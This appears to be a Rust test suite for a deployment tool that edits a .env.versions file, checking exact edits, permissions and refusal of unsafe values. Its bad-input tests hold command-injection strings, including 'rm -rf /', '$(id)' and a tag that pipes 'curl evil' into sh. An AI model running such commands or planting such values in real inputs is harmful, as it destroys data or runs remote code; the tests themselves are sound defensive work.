//! `env set|get|versions` through the real binary: byte-for-byte edits, atomic replace,
//! and an untouched file (exit 2) on any bad key or value.

use crate::support::ActionRun;
use std::fs;

const BEFORE: &str = "# versions\r\nexport API_IMAGE_TAG='1.2.3' # api\r\nWEB_IMAGE_TAG=2.0.0\r\n";

fn run_set(before: Option<&str>, args: &[&str]) -> (crate::support::Outcome, Option<String>) {
    let run = ActionRun::cli(Vec::<String>::new());
    let path = run.dir().join(".env.versions");
    if let Some(text) = before {
        fs::write(&path, text).unwrap();
    }
    let mut argv = vec!["env".to_owned(), "set".into(), "--file".into()];
    argv.push(path.display().to_string());
    argv.extend(args.iter().map(|a| (*a).to_owned()));
    let run = run.args(argv);
    let out = run.run_ref();
    (out, fs::read_to_string(&path).ok())
}

#[test]
fn set_keeps_every_other_byte() {
    let (out, after) = run_set(Some(BEFORE), &["API_IMAGE_TAG=1.2.4", "LAST_DEPLOY_BY=alice"]);
    assert_eq!(out.code, 0, "{}", out.log());
    assert_eq!(
        after.unwrap(),
        "# versions\r\nexport API_IMAGE_TAG='1.2.4' # api\r\nWEB_IMAGE_TAG=2.0.0\r\nLAST_DEPLOY_BY=alice\r\n"
    );
    assert_eq!(out.stdout, "API_IMAGE_TAG=1.2.4\nLAST_DEPLOY_BY=alice\n");
}

#[test]
fn bad_values_exit_2_and_leave_the_file_untouched() {
    for bad in [
        "API_IMAGE_TAG=1.2.4/\"; rm -rf /",
        "API_IMAGE_TAG=",
        "API_IMAGE_TAG=$(id)",
        "1KEY=x",
        "NOEQUALS",
        "A=`id`",
        "A=x\ny",
    ] {
        let (out, after) = run_set(Some(BEFORE), &["WEB_IMAGE_TAG=9.9.9", bad]);
        assert_eq!(out.code, 2, "{bad:?}: {}", out.log());
        assert!(out.stderr.contains("invalid input"), "{bad:?}: {}", out.stderr);
        assert_eq!(after.as_deref(), Some(BEFORE), "{bad:?} changed the file");
    }
}

#[test]
fn empty_tag_error_names_key_and_rule() {
    let (out, _) = run_set(Some(BEFORE), &["API_IMAGE_TAG="]);
    assert_eq!(out.code, 2);
    assert!(out.stderr.contains("invalid input `API_IMAGE_TAG`: \"\" is empty"), "{}", out.stderr);
}

#[test]
fn missing_file_is_created_missing_directory_is_an_error() {
    let (out, after) = run_set(None, &["API_IMAGE_TAG=1.0.0"]);
    assert_eq!(out.code, 0, "{}", out.log());
    assert_eq!(after.as_deref(), Some("API_IMAGE_TAG=1.0.0\n"));

    let run = ActionRun::cli(Vec::<String>::new());
    let path = run.dir().join("nope/.env.versions");
    let out = run.args(["env", "set", "--file", &path.display().to_string(), "A=1"]).run();
    assert_eq!(out.code, 2, "{}", out.log());
    assert!(out.stderr.contains("directory that does not exist"), "{}", out.stderr);
    assert!(!path.exists());
}

#[cfg(unix)]
#[test]
fn permissions_are_kept_and_no_temp_file_is_left() {
    use std::os::unix::fs::PermissionsExt;
    let run = ActionRun::cli(Vec::<String>::new());
    let path = run.dir().join(".env.versions");
    fs::write(&path, "A=1\n").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o640)).unwrap();
    let dir = run.dir().to_path_buf();
    let run = run.args(["env", "set", "--file", &path.display().to_string(), "A=2"]);
    let out = run.run_ref();
    assert_eq!(out.code, 0, "{}", out.log());
    assert_eq!(fs::metadata(&path).unwrap().permissions().mode() & 0o777, 0o640);
    let names: Vec<_> = fs::read_dir(&dir).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(names.len(), 1, "{names:?}");
}

#[test]
fn get_prints_one_value_or_all() {
    let run = ActionRun::cli(Vec::<String>::new());
    let path = run.dir().join(".env.versions");
    fs::write(&path, BEFORE).unwrap();
    let p = path.display().to_string();
    let out = ActionRun::cli(["env", "get", "--file", &p, "API_IMAGE_TAG"]).run();
    assert_eq!((out.code, out.stdout.as_str()), (0, "1.2.3\n"), "{}", out.log());
    let out = ActionRun::cli(["env", "get", "--file", &p]).run();
    assert_eq!(out.stdout, "API_IMAGE_TAG=1.2.3\nWEB_IMAGE_TAG=2.0.0\n");
    let out = ActionRun::cli(["env", "get", "--file", &p, "NOPE"]).run();
    assert_eq!(out.code, 1, "{}", out.log());
}

#[test]
fn versions_action_records_a_deployment() {
    let run = ActionRun::action();
    let path = run.dir().join(".env.versions");
    fs::write(&path, "API_IMAGE_TAG=1.2.3\n").unwrap();
    let run = run
        .input("command", "versions")
        .input("env-file", &path.display().to_string())
        .input("api_image_tag", "1.2.4")
        .input("web_image_tag", "")
        .env("SOURCE_DATE_EPOCH", "1700000000");
    let out = run.run_ref();
    assert_eq!(out.code, 0, "{}", out.log());
    assert_eq!(
        fs::read_to_string(&path).unwrap(),
        "API_IMAGE_TAG=1.2.4\nLAST_DEPLOY_DATE=2023-11-14T22:13:20Z\nLAST_DEPLOY_BY=alice\n\
         LAST_DEPLOY_RUN=https://github.com/org/api/actions/runs/1234\n"
    );
    assert!(out.output("commit-message").starts_with("deploy: api 1.2.3 → 1.2.4\n"), "{out:#?}");
    assert_eq!(out.output("changed"), "true");
}

#[test]
fn versions_action_refuses_an_injected_tag() {
    let run = ActionRun::action();
    let path = run.dir().join(".env.versions");
    fs::write(&path, "API_IMAGE_TAG=1.2.3\n").unwrap();
    let run = run
        .input("command", "versions")
        .input("env-file", &path.display().to_string())
        .input("api_image_tag", "1.2.4/' .env; curl evil|sh #");
    let out = run.run_ref();
    assert_eq!(out.code, 2, "{}", out.log());
    assert!(out.stdout.contains("invalid input `api_image_tag`"), "{}", out.stdout);
    assert_eq!(fs::read_to_string(path).unwrap(), "API_IMAGE_TAG=1.2.3\n");
}

#[test]
fn env_set_as_an_action_step() {
    let run = ActionRun::action();
    let path = run.dir().join(".env.versions");
    fs::write(&path, "API_IMAGE_TAG=1.2.3\n").unwrap();
    let run = run
        .input("command", "env-set")
        .input("env-file", &path.display().to_string())
        .input("assignments", "API_IMAGE_TAG=1.2.4\nLAST_DEPLOY_BY=bob");
    let out = run.run_ref();
    assert_eq!(out.code, 0, "{}", out.log());
    assert_eq!(fs::read_to_string(&path).unwrap(), "API_IMAGE_TAG=1.2.4\nLAST_DEPLOY_BY=bob\n");
    assert_eq!(out.output("changed"), "true");
    assert!(out.summary.contains("| `API_IMAGE_TAG` | `1.2.3` | `1.2.4` |"), "{}", out.summary);
}

/// Values with characters special to a shell or to compose: each must read back exactly.
const SPECIAL: &[&str] = &[
    "a|b",
    "a>b",
    "a&b",
    "(x)",
    "a;b",
    "a b",
    "*",
    "~x",
    "a#b",
    "x|touch pwned",
    "a<b",
    "!x",
    "?",
    "[ab]",
    "{a,b}",
    "a  b",
    "#x",
    "é",
];

/// How `sh`'s `.` reads `KEY` from the file in `dir`.
fn sourced(dir: &std::path::Path) -> String {
    let out = std::process::Command::new("sh")
        .args(["-c", ". ./.env.versions; printf %s \"$KEY\""])
        .current_dir(dir)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap()
}

/// How docker compose v1 reads the file (its own reader), when it is installed.
fn compose_v1_reads(path: &std::path::Path) -> Option<String> {
    let script = "import sys, json\nfrom compose.config.environment import env_vars_from_file\n\
                  print(json.dumps(env_vars_from_file(sys.argv[1])['KEY']))";
    let out = std::process::Command::new("/usr/bin/python3").args(["-c", script]).arg(path).output().ok()?;
    out.status.success().then(|| serde_json::from_slice(&out.stdout).unwrap())
}

#[test]
fn set_values_read_back_exactly_by_sh_and_compose_and_run_nothing() {
    for value in SPECIAL {
        for before in [None, Some("KEY=old\n")] {
            let run = ActionRun::cli(Vec::<String>::new());
            let path = run.dir().join(".env.versions");
            if let Some(text) = before {
                fs::write(&path, text).unwrap();
            }
            let argv = ["env", "set", "--file", path.to_str().unwrap(), &format!("KEY={value}")];
            let run = run.args(argv);
            let out = run.run_ref();
            assert_eq!(out.code, 0, "{value:?}: {}", out.log());
            let text = fs::read_to_string(&path).unwrap();
            assert_eq!(text, format!("KEY='{value}'\n"), "{value:?} is written single-quoted");
            assert_eq!(sourced(run.dir()), *value, "{value:?} read back by sh from {text:?}");
            assert!(!run.dir().join("pwned").exists(), "{value:?} ran a command");
            if before.is_none()
                && let Some(read) = compose_v1_reads(&path)
            {
                assert_eq!(read, *value, "{value:?} read back by docker compose v1 from {text:?}");
            }
            assert_eq!(deploy_action::envfile::EnvFile::parse(&text).get("KEY"), Some(*value));
        }
    }
    // Plain values stay bare; expanding or quote-closing ones are refused, the file untouched.
    let (out, after) = run_set(None, &["KEY=registry.example:5000/org/api@v1.2+b,3%"]);
    assert_eq!(out.code, 0, "{}", out.log());
    assert_eq!(after.as_deref(), Some("KEY=registry.example:5000/org/api@v1.2+b,3%\n"));
    for bad in ["$(touch pwned)", "`touch pwned`", "a'b", "a\"b", "a\\b", "${X}"] {
        let (out, after) = run_set(Some("KEY=old\n"), &[&format!("KEY={bad}")]);
        assert_eq!(out.code, 2, "{bad:?}: {}", out.log());
        assert_eq!(after.as_deref(), Some("KEY=old\n"), "{bad:?} changed the file");
    }
}
